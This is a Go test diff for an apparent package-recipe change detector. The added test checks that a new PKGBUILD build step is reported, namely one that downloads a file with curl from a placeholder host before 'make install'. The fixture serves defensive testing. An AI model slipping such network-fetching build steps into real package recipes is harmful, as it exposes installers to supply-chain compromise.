@@ -197,6 +197,19 @@ func TestThreat39ANewMaintainerWithNewCommandsIsHeld(t *testing.T) {
 	require.True(t, report.Has(aur.Changed))
 	require.False(t, report.Held(), "the maintainer is the same")
 
+	var lines []string
+	for _, f := range report.Facts {
+		if f.Code == aur.LineAdded || f.Code == aur.LineRemoved {
+			lines = append(lines, string(f.Code)+" "+f.Detail)
+		}
+	}
+	require.ElementsMatch(t, []string{
+		"line-added package() { curl -O https://tool.example.invalid/x; make install; }", "line-removed package() { make install; }",
+	}, lines)
+	bumped := strings.Replace(head, "pkgver=1", "pkgver=2", 1) + "# a comment\n"
+	report = compare(aur.Recipe{Files: map[string][]byte{"PKGBUILD": []byte(bumped + "package() { make install; }\n")}}, info)
+	require.False(t, report.Has(aur.LineAdded), "%+v", report.Facts)
+
 	info.Maintainer = "boris"
 	report = compare(old, info)
 	require.True(t, report.Has(aur.NewMaintainer))
